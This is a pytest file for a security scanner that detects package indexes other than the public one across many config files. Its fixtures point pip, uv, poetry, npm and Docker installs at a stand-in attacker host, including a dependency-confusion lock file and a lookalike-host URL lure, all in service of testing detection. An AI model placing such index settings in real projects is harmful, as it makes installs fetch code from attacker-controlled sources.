"""Indexes besides the public one: each way to set one is named, and a policy says which may be."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from secpipe.core.finding import Finding, Severity
from secpipe.core.verdict import Effect
from secpipe.gate.policies.policy import Policy, Vulnerabilities
from secpipe.gate.rules.vulnerabilities import vulnerabilities
from secpipe.sbom.collect import collect
from secpipe.scan.vulnerabilities import hygiene, match
from secpipe.system.tree import open_tree
from tests.unit.gate_builders import NOW, clean, ok, situation

EVIL = "https://pypi.evil.example/simple"


def found(tmp_path: Path, **texts: str) -> list[Finding]:
    for name, text in texts.items():
        place = tmp_path / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    inventory = collect(open_tree(tmp_path))
    every = hygiene.check(inventory, match.packages(inventory))
    return [one for one in every if one.rule == "audit/foreign-index"]


SETTINGS = {
    "requirements.txt": f"--extra-index-url {EVIL}\nopenai==1.40.0\n",
    "dev-requirements.in": f"-i {EVIL}\nopenai\n",
    "app/requirements-prod.txt": f"--extra-index-url={EVIL}\n",
    "pip.conf": f"[global]\nextra-index-url =\n    https://pypi.org/simple\n    {EVIL}\n",
    ".pip/pip.ini": f"[global]\nindex-url={EVIL}\n",
    "uv.toml": f'extra-index-url = ["{EVIL}"]\n',
    "pyproject.toml": f'[[tool.uv.index]]\nurl = "{EVIL}"\ndefault = true\n',
    "a/pyproject.toml": f'[[tool.poetry.source]]\nname = "x"\nurl = "{EVIL}"\npriority = "supplemental"\n',
    "b/pyproject.toml": f'[[tool.pdm.source]]\nname = "x"\nurl = "{EVIL}"\n',
    "Pipfile": f'[[source]]\nurl = "{EVIL}"\nname = "x"\n',
    "pixi.toml": f'[pypi-options]\nextra-index-urls = ["{EVIL}"]\n',
    ".npmrc": "registry=https://npm.evil.example/\n",
    ".yarnrc": 'registry "https://npm.evil.example/"\n',
    ".yarnrc.yml": 'npmRegistryServer: "https://npm.evil.example"\n',
    "bunfig.toml": '[install]\nregistry = "https://npm.evil.example/"\n',
    "c/bunfig.toml": '[install]\nregistry = { url = "https://npm.evil.example/", token = "$T" }\n',
    "Dockerfile": f"FROM python:3.12\nENV PIP_EXTRA_INDEX_URL={EVIL}\nRUN pip install openai\n",
    "d/Dockerfile": f"FROM python:3.12\nRUN pip install \\\n  --extra-index-url {EVIL} openai\n",
    ".github/workflows/ci.yml": f"env:\n  UV_INDEX_URL: {EVIL}\n",
    "build.sh": f"pip config set global.index-url {EVIL}\n",
    "e/build.sh": "npm ci --registry=https://npm.evil.example/\n",
    "nb.ipynb": '{"cells": [{"cell_type": "code", "source": ["%pip install -i https://pypi.evil.example/simple x"]}]}',
    "one.ipynb": '{"cells":[{"source":["%pip install -i https://pypi.evil.example/simple x\\\\n","!curl -f http://q"]}]}',
    "setup.cfg": f"[easy_install]\nindex_url = {EVIL}\n",
    "f/build.sh": f"python -m pip install \\\n  -i {EVIL} \\\n  six\n",
    "g/build.sh": f"curl -f https://h.example/ && pip3 install -f {EVIL} six\n",
    "h/build.sh": "npm config set registry https://npm.evil.example/\n",
    "reqs.txt": f"-f {EVIL}\nsix==1.16.0\n",
    "h/Dockerfile": f'RUN ["pip", "install", "-i", "{EVIL}", "six"]\n',
    "environment.yml": f"dependencies:\n  - pip:\n    - --extra-index-url {EVIL}\n",
}


@pytest.mark.parametrize("name", SETTINGS)
def test_each_way_to_set_an_index_is_named(tmp_path: Path, name: str) -> None:
    one = found(tmp_path, **{name: SETTINGS[name]})
    assert [(item.path, item.severity, item.details["host"].partition(".")[2]) for item in one] == [
        (name, Severity.MEDIUM, "evil.example")
    ]
    assert one[0].line > 0


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "--index-url https://pypi.org/simple\nopenai==1.40.0\n"),
        ("requirements.txt", f"# --extra-index-url {EVIL}\n"),
        (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
        ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\n'),
        ("README.md", f"pip install --extra-index-url {EVIL}\n"),
        (
            "Dockerfile",
            "HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1\nRUN curl -fsS -i http://h.example/\n",
        ),
        ("run.sh", "pip install six && curl -s -f http://localhost:3000/health\nwget -i https://h.example/list\n"),
        ("deploy.sh", "pip install -r requirements.txt\nkubectl apply -f https://h.example/app.yaml\n"),
        (".env", "REGISTRY=https://registry.h.example\n"),
        ("values.yaml", "image:\n  registry: https://registry.h.example/\n"),
        ("Makefile", "up:\n\tdocker compose -f https://h.example/compose.yaml up\n"),
        ("deploy.yaml", "spec:\n  index: https://search.example/index\n"),
    ],
)
def test_the_public_index_and_prose_are_not(tmp_path: Path, name: str, text: str) -> None:
    assert found(tmp_path, **{name: text}) == []


def test_one_that_is_bound_to_its_packages_is_told_and_no_more(tmp_path: Path) -> None:
    one = found(
        tmp_path,
        **{
            ".npmrc": "@acme:registry=https://npm.acme.example/\n",
            "uv.toml": '[[index]]\nname = "acme"\nurl = "https://pypi.acme.example/simple"\nexplicit = true\n',
        },
    )
    assert {item.severity for item in one} == {Severity.INFO}
    assert any("npm packages of @acme" in item.message for item in one)


def test_an_index_of_a_makers_guide_is_low(tmp_path: Path) -> None:
    one = found(
        tmp_path, **{"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.9.0\n"}
    )
    assert [item.severity for item in one] == [Severity.LOW]


def test_no_secret_of_a_setting_is_told(tmp_path: Path) -> None:
    one = found(
        tmp_path, **{"requirements.txt": "--extra-index-url https://bob:hunter2hunter2@pypi.evil.example/simple\n"}
    )
    assert "hunter2" not in str(one)
    assert one[0].details["host"] == "pypi.evil.example"


def test_a_lock_that_takes_a_known_name_from_elsewhere(tmp_path: Path) -> None:
    lock = f"""version = 1
[[package]]
name = "torch"
version = "2.9.0"
source = {{ registry = "{EVIL}" }}
[[package]]
name = "acme-only-here"
version = "1.0"
source = {{ registry = "{EVIL}" }}
"""
    one = found(tmp_path, **{"uv.lock": lock})
    assert [item.message for item in one] == [
        f"1 package of names that the public index knows (torch) comes from {EVIL}"
    ]


@pytest.mark.parametrize(
    ("glob", "effect"),
    [
        ("pypi.evil.example", Effect.INFO),
        ("pypi.evil.example/simple", Effect.INFO),
        ("*.evil.example", Effect.INFO),
        ("evil.example", Effect.WARN),
        ("pypi.evil.example/other", Effect.WARN),
    ],
)
def test_a_policy_allows_an_index_by_its_host(tmp_path: Path, glob: str, effect: Effect) -> None:
    one = found(tmp_path, **{"requirements.txt": SETTINGS["requirements.txt"]})
    rules = replace(Policy(), vulnerabilities=Vulnerabilities(indexes=(glob,)))
    audit = replace(ok("audit"), findings=tuple(one))
    judged = vulnerabilities(situation(clean(audit=audit), rules)).findings
    assert [item.effect for item in judged] == [effect]


def test_a_host_that_only_looks_like_an_allowed_one_is_none(tmp_path: Path) -> None:
    lure = "https://pypi.acme.example@pypi.evil.example/simple"
    one = found(tmp_path, **{"requirements.txt": f"--extra-index-url {lure}\n"})
    rules = replace(Policy(), vulnerabilities=Vulnerabilities(indexes=("pypi.acme.example",)))
    judged = vulnerabilities(situation(clean(audit=replace(ok("audit"), findings=tuple(one))), rules)).findings
    assert [item.effect for item in judged] == [Effect.WARN]


def test_very_many_settings_are_said_and_do_not_hang(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        "".join(f"--extra-index-url https://h{n}.example/\n" for n in range(300))
    )
    inventory = collect(open_tree(tmp_path))
    assert any("more than 200 settings" in skip.reason for skip in inventory.skipped)


def test_an_index_is_a_service_of_a_valid_bom(tmp_path: Path) -> None:
    from secpipe.sbom.cyclonedx import emit
    from secpipe.sbom.validate import validate

    for name in (".npmrc", "requirements.txt"):
        (tmp_path / name).write_text(SETTINGS[name])
    data = emit(collect(open_tree(tmp_path)), name="x", now=NOW, spec="1.7")
    assert validate(data) == ()
    assert b"package index https://npm.evil.example" in data
